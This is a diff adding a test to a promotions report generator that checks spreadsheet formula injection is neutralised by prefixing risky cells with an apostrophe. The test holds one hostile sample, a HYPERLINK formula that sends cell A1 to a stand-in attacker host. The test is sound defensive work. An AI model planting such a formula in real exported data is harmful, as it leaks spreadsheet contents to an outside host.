@@ -96,6 +96,23 @@ def test_csv_reports_parse_back():
     assert {a["slug"] for a in articles} == {SLUG, "clauses", "mons"}
 
 
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_text():
+    from dataclasses import replace
+
+    from transfo_promotions.report import inert
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
+    files = build_report(ReportInput(
+        records=[replace(RECORDS[0], audience=hostile)], articles=ARTICLES, monthly_budget=Decimal(300),
+        locale="fr_BE", public_url="https://www.economiesociale.be/transfo",
+        data_file="content/promotions/promotions.csv",
+        generated=datetime(2019, 11, 30, 18, tzinfo=ZoneInfo("Europe/Brussels"))))
+    (row,) = csv.DictReader(io.StringIO(files["rapport-promotions.csv"].decode("utf-8-sig")), delimiter=";")
+    assert row["audience"] == "'" + hostile
+    assert [inert(cell) for cell in ("-12,50", "-3", "+32 2 000", "@x", "25-45 ans")] == \
+        ["-12,50", "-3", "'+32 2 000", "'@x", "25-45 ans"]
+
+
 def test_svg_charts_are_static_and_parse():
     files = report()
     for name in ("depenses-par-mois.svg", "cout-par-lecture.svg"):
